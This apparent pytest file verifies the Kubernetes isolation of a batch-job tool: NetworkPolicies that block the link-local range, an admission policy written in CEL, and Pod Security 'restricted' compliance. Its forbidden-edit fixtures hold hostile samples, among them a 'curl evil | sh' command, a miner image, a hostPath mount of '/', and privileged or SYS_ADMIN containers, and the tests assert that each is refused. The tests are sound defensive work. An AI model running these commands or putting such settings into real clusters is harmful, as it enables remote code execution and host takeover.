"""Kubernetes workers isolated as the design says: a NetworkPolicy per version (no ingress; egress
to DNS and what the options name, never the link-local range, the instance identity endpoint
only where the lake is reached with the machine's identity), the pacer's own policy with the
API server, the admission policy that lets the pacer create only this version's paid workers
(its CEL rules evaluated against allowed and forbidden Jobs with cel-python: no cluster runs
here), and every rendered pod within the Pod Security `restricted` profile."""

from __future__ import annotations

import copy
import ipaddress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from batchline.errors import BatchlineError
from batchline.launch.k8s import Egress, K8sOptions, PaidPool, to_yaml
from batchline.launch.k8s_isolation import egress_cidr, egress_selector, paid_job_rules
from batchline.launch.k8s_pacer import pacer_account, paid_job, paid_job_template
from batchline.launch.manifests import render, render_cluster_objects
from tests.integration.fleet.test_launch_k8s import MODELS, parse

kubernetes = pytest.importorskip("kubernetes")
celpy = pytest.importorskip("celpy")
MODELS.update({"Deployment": "V1Deployment", "ConfigMap": "V1ConfigMap", "CronJob": "V1CronJob"})

VERSION = "ticket-triage@3f9a0c1d2e"
EGRESS = Egress(cidrs=("10.20.0.0/16",), api_server=("172.20.0.1/32",))
POOL = PaidPool(queue="on-demand", workers=2, node_selector={"capacity": "on-demand"})


def options(**kw: Any) -> K8sOptions:
    return K8sOptions(**{"version": VERSION, "workers": 2, "image": "registry.example/batchline:1",
                         "queue": "batch-spot", "store_secret": "batchline-store", "gpus_per_worker": 0,
                         "namespace": "jobs", "egress": EGRESS, **kw})


def policies(objects: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {o["metadata"]["name"].rsplit("-", 1)[-1]: o for o in objects if o["kind"] == "NetworkPolicy"}


def peers(policy: dict[str, Any]) -> list[dict[str, Any]]:
    return [peer for rule in policy["spec"]["egress"] for peer in rule["to"]]


def test_worker_pods_accept_nothing_and_reach_dns_and_what_the_options_name() -> None:
    objects = render(options(lake_secret="lake-keys"))
    [workers] = policies(objects).values()
    model = parse(workers)
    assert model.spec.policy_types == ["Ingress", "Egress"] and not model.spec.ingress
    assert workers["spec"]["podSelector"]["matchLabels"] == {"app.kubernetes.io/name": "batchline-worker",
                                                             "batchline/job": "ticket-triage-3f9a0c1d2e"}
    dns, lake = workers["spec"]["egress"]
    assert dns["ports"] == [{"protocol": "UDP", "port": 53}, {"protocol": "TCP", "port": 53}]
    assert dns["to"] == [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}},
                          "podSelector": {"matchLabels": {"k8s-app": "kube-dns"}}}]
    assert lake["to"] == [{"ipBlock": {"cidr": "10.20.0.0/16"}}]
    # Every worker pod, the pacer's paid ones included, carries the labels the policy selects.
    labels = [j["spec"]["template"]["metadata"]["labels"] for j in objects if j["kind"] == "Job"]
    labels.append(paid_job(paid_job_template(options(fallback=POOL)), "paid-0", 1)["spec"]["template"]["metadata"]
                  ["labels"])
    for pod in labels:
        assert all(pod[k] == v for k, v in workers["spec"]["podSelector"]["matchLabels"].items())
        assert "app.kubernetes.io/component" not in pod
    assert not [o for o in objects if o["kind"] == "Namespace"]  # none rendered, none relabelled


def test_the_link_local_range_is_never_reachable_and_the_identity_endpoint_only_with_the_machines_identity(
        ) -> None:
    anywhere = replace(EGRESS, cidrs=("0.0.0.0/0", "::/0"))
    with_secret = policies(render(options(egress=anywhere, lake_secret="lake-keys")))["workers"]
    blocks = [p["ipBlock"] for p in peers(with_secret) if "ipBlock" in p]
    assert blocks == [{"cidr": "0.0.0.0/0", "except": ["169.254.0.0/16"]}, {"cidr": "::/0", "except": ["fe80::/10"]}]
    # The machine's identity (no lake Secret): the identity endpoint alone of the link-local range.
    machine = policies(render(options(egress=anywhere)))["workers"]
    identity = [p["ipBlock"]["cidr"] for p in peers(machine) if "ipBlock" in p and "except" not in p["ipBlock"]]
    assert identity == ["169.254.169.254/32", "fd00:ec2::254/128"]
    for cidr in identity:
        assert ipaddress.ip_network(cidr).num_addresses == 1
    for bad in ("169.254.0.0/16", "169.254.169.254/32", "fe80::1/128"):
        with pytest.raises(BatchlineError, match=r"link-local range .* is never reachable"):
            egress_cidr(bad)
    for bad in ("10.0.0.0/33", "example.com", "10.0.0.1/8"):
        with pytest.raises(BatchlineError, match="is not a CIDR"):
            egress_cidr(bad)


def test_no_egress_named_is_refused_and_selectors_are_read_exactly() -> None:
    with pytest.raises(BatchlineError, match="give the store's, the object store's and the catalog's addresses"):
        render(options(egress=Egress()))
    peer = egress_selector("namespace:kubernetes.io/metadata.name=db;pod:app=pgbouncer,tier=store")
    assert peer.to_peer() == {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "db"}},
                              "podSelector": {"matchLabels": {"app": "pgbouncer", "tier": "store"}}}
    only = policies(render(options(egress=Egress(selectors=(egress_selector("pod:app=pgbouncer"),)))))["workers"]
    assert peers(only)[1:] == [{"podSelector": {"matchLabels": {"app": "pgbouncer"}}},
                               {"ipBlock": {"cidr": "169.254.169.254/32"}}, {"ipBlock": {"cidr": "fd00:ec2::254/128"}}]
    for bad in ("app=pgbouncer", "pod:app", "node:a=b", "pod:a=b;pod:c=d", "pod:a b=c", "pod:a=b\n"):
        with pytest.raises(BatchlineError, match="--egress-selector"):
            egress_selector(bad)


def test_the_pacer_alone_reaches_the_api_server() -> None:
    objects = render(options(fallback=POOL))
    found = policies(objects)
    assert set(found) == {"workers", "pacer"}
    pacer = found["pacer"]
    parse(pacer)
    assert pacer["spec"]["podSelector"]["matchLabels"] == {"batchline/job": "ticket-triage-3f9a0c1d2e",
                                                           "app.kubernetes.io/component": "pacer"}
    assert pacer["spec"]["egress"][-1] == {"to": [{"ipBlock": {"cidr": "172.20.0.1/32"}}],
                                           "ports": [{"protocol": "TCP", "port": 443}, {"protocol": "TCP", "port": 6443}]}
    assert "172.20.0.1/32" not in to_yaml([found["workers"]])
    # The workers' policy does not select the pacer (its component label), nor the pacer's the workers.
    [deployment] = [o for o in objects if o["kind"] == "Deployment"]
    assert deployment["spec"]["template"]["metadata"]["labels"]["app.kubernetes.io/component"] == "pacer"
    with pytest.raises(BatchlineError, match="give --api-server-cidr"):
        render(options(fallback=POOL, egress=replace(EGRESS, api_server=())))


# --- the Pod Security "restricted" profile ------------------------------------------------------

# The volume types the restricted profile allows.
RESTRICTED_VOLUMES = {"configMap", "csi", "downwardAPI", "emptyDir", "ephemeral", "persistentVolumeClaim",
                      "projected", "secret"}


def restricted_violations(pod: dict[str, Any]) -> list[str]:
    """What in a pod spec the Pod Security Standards' `restricted` profile (which includes
    `baseline`) refuses, one line each."""
    out = []
    if pod.get("hostNetwork") or pod.get("hostPID") or pod.get("hostIPC"):
        out.append("host namespaces")
    for v in pod.get("volumes", []):
        kinds = set(v) - {"name"}
        if not kinds <= RESTRICTED_VOLUMES:
            out.append(f"volume {v['name']} of type {kinds}")
    psc = pod.get("securityContext", {})
    if any(k in psc for k in ("sysctls", "windowsOptions")) or psc.get("runAsUser") == 0:
        out.append("pod securityContext")
    containers = [*pod.get("containers", []), *pod.get("initContainers", []), *pod.get("ephemeralContainers", [])]
    for c in containers:
        sc = c.get("securityContext", {})
        name = c["name"]
        if sc.get("privileged"):
            out.append(f"{name}: privileged")
        if sc.get("allowPrivilegeEscalation") is not False:
            out.append(f"{name}: allowPrivilegeEscalation must be false")
        if not (sc.get("runAsNonRoot") is True or psc.get("runAsNonRoot") is True):
            out.append(f"{name}: runAsNonRoot")
        if sc.get("runAsUser") == 0:
            out.append(f"{name}: runAsUser 0")
        seccomp = (sc.get("seccompProfile") or psc.get("seccompProfile") or {}).get("type")
        if seccomp not in ("RuntimeDefault", "Localhost"):
            out.append(f"{name}: seccompProfile")
        caps = sc.get("capabilities", {})
        if "ALL" not in caps.get("drop", []) or set(caps.get("add", [])) - {"NET_BIND_SERVICE"}:
            out.append(f"{name}: capabilities")
        if any(p.get("hostPort") for p in c.get("ports", [])):
            out.append(f"{name}: hostPort")
        if sc.get("procMount") not in (None, "Default") or ("appArmorProfile" in sc and \
                sc["appArmorProfile"].get("type") == "Unconfined"):
            out.append(f"{name}: procMount or AppArmor")
    return out


def pod_templates(objects: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    out = {}
    for o in objects:
        name = f"{o['kind']} {o['metadata']['name']}"
        if o["kind"] in ("Job", "Deployment"):
            out[name] = o["spec"]["template"]["spec"]
        elif o["kind"] == "CronJob":
            out[name] = o["spec"]["jobTemplate"]["spec"]["template"]["spec"]
        elif o["kind"] == "ConfigMap" and "job.json" in o.get("data", {}):
            out[name] = yaml.safe_load(o["data"]["job.json"])["spec"]["template"]["spec"]
    return out


def test_every_rendered_pod_meets_the_restricted_pod_security_profile(tmp_path: Path) -> None:
    from tests.integration.fleet.test_launch_k8s_schedule import options as scheduled
    from tests.integration.fleet.test_launch_k8s_schedule import write_spec

    rendered = [*render(options(fallback=POOL)), *render(options(gpus_per_worker=1, cpu="8", memory="64Gi",
                                                                 weights_cache_size="40Gi"))]
    spec = write_spec(tmp_path / "job", "s3://lake/tickets/*.jsonl")
    rendered += render(replace(scheduled(spec), egress=EGRESS, worker_secret="batchline-worker-store"))
    pods = pod_templates(rendered)
    kinds = {name.split()[0] for name in pods}
    assert kinds == {"Job", "Deployment", "ConfigMap", "CronJob"} and len(pods) >= 6
    for name, pod in pods.items():
        assert restricted_violations(pod) == [], name
    # The rules themselves refuse what they should.
    worker = next(iter(pods.values()))
    for change in ({"hostPID": True}, {"volumes": [{"name": "h", "hostPath": {"path": "/"}}]}):
        assert restricted_violations({**copy.deepcopy(worker), **change})
    escalating = copy.deepcopy(worker)
    escalating["containers"][0]["securityContext"]["allowPrivilegeEscalation"] = True
    assert restricted_violations(escalating) == ["worker: allowPrivilegeEscalation must be false"]


# --- the pacer's admission policy ----------------------------------------------------------------


def cel_rules(o: K8sOptions) -> list[tuple[Any, str]]:
    env = celpy.Environment()
    return [(env.program(env.compile(expression)), message)
            for expression, message in paid_job_rules(o, paid_job_template(o))]


def refusals(rules: list[tuple[Any, str]], job: dict[str, Any] | None, *, operation: str = "CREATE",
             old: dict[str, Any] | None = None) -> list[str]:
    """The messages of the rules a request fails, as the API server would evaluate them."""
    activation = {"object": celpy.json_to_cel(job), "oldObject": celpy.json_to_cel(old),
                  "request": celpy.json_to_cel({"operation": operation})}
    out = []
    for program, message in rules:
        result = program.evaluate(activation)
        # An error evaluating a rule refuses the request too (the policy's failurePolicy is Fail).
        if not (isinstance(result, celpy.celtypes.BoolType) and bool(result)):
            out.append(message)
    return out


@pytest.fixture
def pacer_options() -> K8sOptions:
    return options(fallback=POOL, lake_secret="lake-keys")


def test_the_admission_policy_admits_the_paid_worker_template_and_nothing_else(pacer_options: K8sOptions) -> None:
    rules = cel_rules(pacer_options)
    template = paid_job_template(pacer_options)
    ours = paid_job(template, "paid-1", 2)
    assert refusals(rules, ours) == []

    def changed(edit: Any) -> dict[str, Any]:
        job = copy.deepcopy(ours)
        edit(job)
        return job

    pod = ("spec", "template", "spec")

    def at(job: dict[str, Any], path: tuple[str, ...] = pod) -> Any:
        for key in path:
            job = job[key]
        return job

    forbidden = {
        "a hostPath": lambda j: at(j)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
        "a privileged container": lambda j: at(j)["containers"][0]["securityContext"].update(privileged=True),
        "another ServiceAccount": lambda j: at(j).update(serviceAccountName="default"),
        "a mounted token": lambda j: at(j).update(automountServiceAccountToken=True),
        "another image": lambda j: at(j)["containers"][0].update(image="evil.example/miner:1"),
        "another command": lambda j: at(j)["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
        "another version": lambda j: at(j)["containers"][0]["args"].__setitem__(2, "other@1"),
        "no version label": lambda j: j["metadata"]["labels"].pop("batchline/job"),
        "another version's label": lambda j: j["metadata"]["labels"].update({"batchline/job": "other-1"}),
        "no paid slot label": lambda j: j["metadata"]["labels"].pop("batchline/paid-slot"),
        "pods without the version's label": lambda j: j["spec"]["template"]["metadata"]["labels"].pop(
            "batchline/job"),
        "the host's network": lambda j: at(j).update(hostNetwork=True),
        "a node picked by hand": lambda j: at(j).update(nodeName="gpu-node-1"),
        "another Secret": lambda j: at(j)["containers"][0]["env"].append(
            {"name": "X", "valueFrom": {"secretKeyRef": {"name": "interactive-engine-keys", "key": "k"}}}),
        "a second container": lambda j: at(j)["containers"].append(copy.deepcopy(at(j)["containers"][0])),
        "an init container": lambda j: at(j).update(initContainers=[copy.deepcopy(at(j)["containers"][0])]),
        "an added capability": lambda j: at(j)["containers"][0]["securityContext"]["capabilities"].update(
            add=["SYS_ADMIN"]),
        "root": lambda j: at(j)["securityContext"].update(runAsNonRoot=False),
        "another queue": lambda j: j["metadata"]["labels"].update({"kueue.x-k8s.io/queue-name": "interactive"}),
    }
    for what, edit in forbidden.items():
        assert refusals(rules, changed(edit)), f"the policy admitted {what}"
    # Deleting: this version's paid Jobs only.
    assert refusals(rules, None, operation="DELETE", old=ours) == []
    other = changed(lambda j: j["metadata"]["labels"].update({"batchline/job": "other-1"}))
    assert refusals(rules, None, operation="DELETE", old=other) == ["the pacer deletes only this version's paid "
                                                                    "worker Jobs"]
    spot = changed(lambda j: j["metadata"]["labels"].pop("batchline/paid-slot"))
    assert refusals(rules, None, operation="DELETE", old=spot)


def test_the_admission_policy_binds_to_the_pacers_account_and_is_rendered_apart(
        pacer_options: K8sOptions, tmp_path: Path) -> None:
    from batchline.cli import main

    policy, binding = render_cluster_objects(pacer_options)
    parse(policy)
    parse(binding)
    condition = policy["spec"]["matchConditions"][0]["expression"]
    account = pacer_account(pacer_options)
    assert account == "batchline-ticket-triage-3f9a0c1d2e-pacer"
    assert condition == f"request.userInfo.username == 'system:serviceaccount:jobs:{account}'"
    env = celpy.Environment()
    matches = env.program(env.compile(condition))
    for user, expected in ((f"system:serviceaccount:jobs:{account}", True),
                           (f"system:serviceaccount:other:{account}", False),
                           ("system:serviceaccount:jobs:batchline-pacer", False), ("alice", False)):
        assert matches.evaluate({"request": celpy.json_to_cel({"userInfo": {"username": user}})}) == expected
    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    assert binding["spec"]["matchResources"]["namespaceSelector"] == {
        "matchLabels": {"kubernetes.io/metadata.name": "jobs"}}
    assert policy["spec"]["failurePolicy"] == "Fail"
    # Cluster-scoped: not among the namespaced manifests, printed only with --cluster-objects.
    assert not [o for o in render(pacer_options) if o["kind"].startswith("ValidatingAdmission")]
    out = tmp_path / "cluster.yaml"
    argv = ["launch", "k8s", "--job", VERSION, "--image", "registry.example/batchline:1", "--queue", "batch-spot",
            "--store-secret", "batchline-store", "--gpus-per-worker", "0", "--namespace", "jobs",
            "--egress-cidr", "10.20.0.0/16", "--api-server-cidr", "172.20.0.1/32", "--fallback-queue", "on-demand",
            "--lake-secret", "lake-keys", "--cluster-objects", "--out", str(out)]
    assert main(argv) == 0
    assert [o["kind"] for o in yaml.safe_load_all(out.read_text())] == ["ValidatingAdmissionPolicy",
                                                                        "ValidatingAdmissionPolicyBinding"]
    with pytest.raises(BatchlineError, match=r"--cluster-objects renders the admission policy .* give --fallback-queue"):
        render_cluster_objects(options())


# --- two versions of one job in one namespace ------------------------------------------------------

# A job name of 60 characters: every object name must cut it, and keep each version's hash.
LONG_NAME = "customer-support-ticket-classification-for-the-emea-region-x"
TONIGHT, LAST_NIGHT = (f"{LONG_NAME}@{h}" for h in ("3f9a0c1d2e4b5a60", "3f9a0c1d2e4b5a61"))
DNS_LABEL = r"[a-z0-9]([-a-z0-9]*[a-z0-9])?"


def both_versions(**kw: Any) -> dict[str, K8sOptions]:
    return {v: options(version=v, fallback=POOL, lake_secret="lake-keys", **kw) for v in (LAST_NIGHT, TONIGHT)}


def everything(o: K8sOptions) -> list[dict[str, Any]]:
    """What `launch k8s` prints for a version, with --cluster-objects, and a paid Job of its pacer."""
    return [*render(o), *render_cluster_objects(o), paid_job(paid_job_template(o), "paid-12", 345)]


def test_two_versions_of_a_60_character_name_in_one_namespace_replace_none_of_each_others_objects() -> None:
    """Regression: the NetworkPolicy of a long job name was named after the cut name alone
    (`batchline-customer-support-ticket-classification-f-workers` for both versions), so
    applying tonight's replaced last night's, whose pods then ran with no policy."""
    import re

    assert len(LONG_NAME) == 60
    rendered = {v: everything(o) for v, o in both_versions().items()}
    named: dict[str, dict[tuple[str, str | None, str], dict[str, Any]]] = {}
    for version, objects in rendered.items():
        digest = version.split("@")[1]
        named[version] = {}
        for obj in objects:
            parse(obj)
            meta = obj["metadata"]
            key = (obj["kind"], meta.get("namespace"), meta["name"])
            assert key not in named[version], f"{key} rendered twice for one version"
            named[version][key] = obj
            limit = 52 if obj["kind"] == "CronJob" else 63
            assert len(meta["name"]) <= limit and re.fullmatch(DNS_LABEL, meta["name"]), key
            if obj["kind"] != "PriorityClass":
                assert digest in meta["name"], f"{key} does not carry the version"
    kinds = {k for k, _ns, _n in named[TONIGHT]}
    assert {"Job", "NetworkPolicy", "ServiceAccount", "Role", "RoleBinding", "ConfigMap", "Deployment",
            "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"} <= kinds
    # The operator's PriorityClass alone is shared, and the same whichever version applies it.
    shared = named[TONIGHT].keys() & named[LAST_NIGHT].keys()
    assert {k for k, _ns, _n in shared} == {"PriorityClass"}
    for key in shared:
        assert named[TONIGHT][key] == named[LAST_NIGHT][key], key
    # Each version's policies select only its own pods, whose label keeps the hash too.
    for version in (TONIGHT, LAST_NIGHT):
        selected = {p["spec"]["podSelector"]["matchLabels"]["batchline/job"]
                    for k, p in named[version].items() if k[0] == "NetworkPolicy"}
        assert selected == {rendered[version][-1]["spec"]["template"]["metadata"]["labels"]["batchline/job"]}
        assert version.split("@")[1] in next(iter(selected))
    # The pacer runs as its own version's account, and the worker pods as theirs.
    for version, o in both_versions().items():
        [deployment] = [d for k, d in named[version].items() if k[0] == "Deployment"]
        assert deployment["spec"]["template"]["spec"]["serviceAccountName"] == pacer_account(o)
        accounts = {k[2] for k in named[version] if k[0] == "ServiceAccount"}
        pods = [j["spec"]["template"]["spec"]["serviceAccountName"] for k, j in named[version].items()
                if k[0] == "Job"]
        assert set(pods) < accounts and pacer_account(o) in accounts


def test_a_long_names_regional_workers_and_scheduled_objects_keep_within_kubernetes_limits(tmp_path: Path) -> None:
    from tests.integration.fleet.test_launch_k8s_schedule import options as scheduled
    from tests.integration.fleet.test_launch_k8s_schedule import write_spec

    for o in both_versions(region="europe-west4", workers=12).values():
        for obj in render(o):
            assert len(obj["metadata"]["name"]) <= 63, obj["metadata"]["name"]
    spec = write_spec(tmp_path / "job", "s3://lake/tickets/*.jsonl")
    base = scheduled(spec)
    names = set()
    for job_name in (LONG_NAME, LONG_NAME[:-1] + "y"):
        o = replace(base, version=job_name, schedule=replace(base.schedule, job_name=job_name), egress=EGRESS)
        objects = render(o)
        for obj in objects:
            parse(obj)
            limit = 52 if obj["kind"] == "CronJob" else 63
            assert len(obj["metadata"]["name"]) <= limit, obj["metadata"]["name"]
        names |= {(obj["kind"], obj["metadata"]["name"]) for obj in objects if obj["kind"] != "PriorityClass"}
    # Two scheduled jobs whose long names differ only past the cut are still named apart.
    assert len(names) == 2 * len([o for o in objects if o["kind"] != "PriorityClass"])


def admission(policies: list[dict[str, Any]], user: str, operation: str, job: dict[str, Any] | None,
              old: dict[str, Any] | None = None) -> list[str]:
    """What the API server refuses a request with, given these ValidatingAdmissionPolicies (each
    bound with Deny in the request's namespace): a policy applies only when every match
    condition is true, and then refuses when any validation is not true (an error refuses too,
    failurePolicy Fail). Each applicable policy is evaluated on its own."""
    env = celpy.Environment()
    activation = {"object": celpy.json_to_cel(job), "oldObject": celpy.json_to_cel(old),
                  "request": celpy.json_to_cel({"operation": operation, "userInfo": {"username": user}})}

    def true(expression: str) -> bool:
        result = env.program(env.compile(expression)).evaluate(activation)
        return isinstance(result, celpy.celtypes.BoolType) and bool(result)

    out = []
    for policy in policies:
        if not all(true(c["expression"]) for c in policy["spec"].get("matchConditions", [])):
            continue
        out += [f"{policy['metadata']['name']}: {v['message']}" for v in policy["spec"]["validations"]
                if not true(v["expression"])]
    return out


def test_last_nights_admission_policy_refused_tonights_paid_jobs() -> None:
    """Regression: every version's admission policy matched the one shared pacer account and
    demanded its own version's label, so last night's policy refused tonight's paid Jobs."""
    versions = both_versions()
    policies = {v: [p for p in render_cluster_objects(o) if p["kind"] == "ValidatingAdmissionPolicy"]
                for v, o in versions.items()}
    both = [*policies[TONIGHT], *policies[LAST_NIGHT]]
    assert len({p["metadata"]["name"] for p in both}) == 2
    user = {v: f"system:serviceaccount:jobs:{pacer_account(o)}" for v, o in versions.items()}
    assert user[TONIGHT] != user[LAST_NIGHT]
    paid = {v: paid_job(paid_job_template(o), "paid-0", 1) for v, o in versions.items()}
    other = {TONIGHT: LAST_NIGHT, LAST_NIGHT: TONIGHT}
    for version in versions:
        # Its own pacer's paid Jobs: created and deleted, whichever versions' policies are bound.
        assert admission(both, user[version], "CREATE", paid[version]) == []
        assert admission(both, user[version], "DELETE", None, old=paid[version]) == []
        # Another version's paid Job from this version's pacer: refused, by this version's policy.
        refused = admission(both, user[version], "CREATE", paid[other[version]])
        assert refused and all(r.startswith(policies[version][0]["metadata"]["name"]) for r in refused)
        assert admission(both, user[version], "DELETE", None, old=paid[other[version]]) == [
            f"{policies[version][0]['metadata']['name']}: the pacer deletes only this version's paid worker Jobs"]
        # What the template does not make, from this version's pacer: refused as before.
        for edit in (lambda j: j["spec"]["template"]["spec"]["volumes"].append(
                         {"name": "root", "hostPath": {"path": "/"}}),
                     lambda j: j["spec"]["template"]["spec"]["containers"][0].update(command=["sh"]),
                     lambda j: j["metadata"]["labels"].pop("batchline/paid-slot")):
            job = copy.deepcopy(paid[version])
            edit(job)
            assert admission(both, user[version], "CREATE", job)
    # Neither policy applies to anyone else (RBAC gives them no right on Jobs to begin with).
    assert admission(both, "alice", "CREATE", paid[TONIGHT]) == []
    # A policy left from before the pacers had accounts of their own matched the shared one:
    # no pacer rendered now runs as it, so it refuses none of their Jobs either.
    left = copy.deepcopy(policies[LAST_NIGHT][0])
    left["spec"]["matchConditions"] = [{"name": "by-the-pacer", "expression":
                                        "request.userInfo.username == 'system:serviceaccount:jobs:batchline-pacer'"}]
    assert admission([left, *both], user[TONIGHT], "CREATE", paid[TONIGHT]) == []
    assert admission([left], "system:serviceaccount:jobs:batchline-pacer", "CREATE", paid[TONIGHT])
